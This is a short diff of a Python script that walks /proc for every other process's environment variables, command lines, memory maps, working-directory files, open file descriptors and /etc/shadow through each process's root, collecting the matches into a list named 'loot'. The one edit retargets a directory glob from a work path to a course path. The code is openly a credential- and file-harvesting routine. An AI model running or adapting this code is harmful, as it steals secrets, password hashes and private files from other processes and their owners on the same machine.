@@ -8,7 +8,7 @@ import glob
 import os
 
 loot = []
-for pattern in ("environ", "cmdline", "maps", "cwd/*", "root/etc/shadow", "root/work/main/*", "fd/*", "task/*/environ"):
+for pattern in ("environ", "cmdline", "maps", "cwd/*", "root/etc/shadow", "root/srv/course/*", "fd/*", "task/*/environ"):
     for path in glob.glob(f"/proc/*/{pattern}"):
         if path.startswith((f"/proc/{os.getpid()}/", "/proc/self/", "/proc/thread-self/")):
             continue
